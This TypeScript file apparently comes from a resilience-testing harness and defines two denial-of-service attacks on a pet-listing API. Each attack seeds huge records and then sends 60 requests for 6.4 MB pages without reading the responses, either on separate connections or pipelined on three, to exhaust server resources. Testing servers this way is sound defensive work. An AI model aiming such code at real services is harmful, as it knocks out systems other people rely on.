import { addHugeAnimals } from './add-huge-animals.ts';
import type { Attack, Target } from './attack.ts';
import { type Sockets, withSockets, write } from './open-sockets.ts';
import { bearer, request } from './requests.ts';

const requests = 60;
const connections = 3;

/** A page of 6.4 MB. */
const page = ({ apiKey }: Target): string => request('GET /v1/pets?limit=100&status=sold', [bearer(apiKey)]);

const listing =
  (send: (target: Target, sockets: Sockets) => Promise<unknown>): Attack =>
  (target) =>
    withSockets(target, async (sockets) => {
      await addHugeAnimals(sockets, target.apiKey, 100);
      await send(target, sockets);
      await sockets.untilOver();
    });

/** Lists 60 pages of 6.4 MB, each on its own connection, and reads none of them. */
export const listUnread: Attack = listing((target, { openDeaf }) =>
  Promise.all(Array.from({ length: requests }, async () => write(await openDeaf(), page(target)))),
);

/** Lists 60 pages of 6.4 MB, pipelined on three connections, and reads none of them. */
export const listUnreadPipelined: Attack = listing((target, { openDeaf }) =>
  Promise.all(
    Array.from({ length: connections }, async () =>
      write(await openDeaf(), page(target).repeat(requests / connections)),
    ),
  ),
);
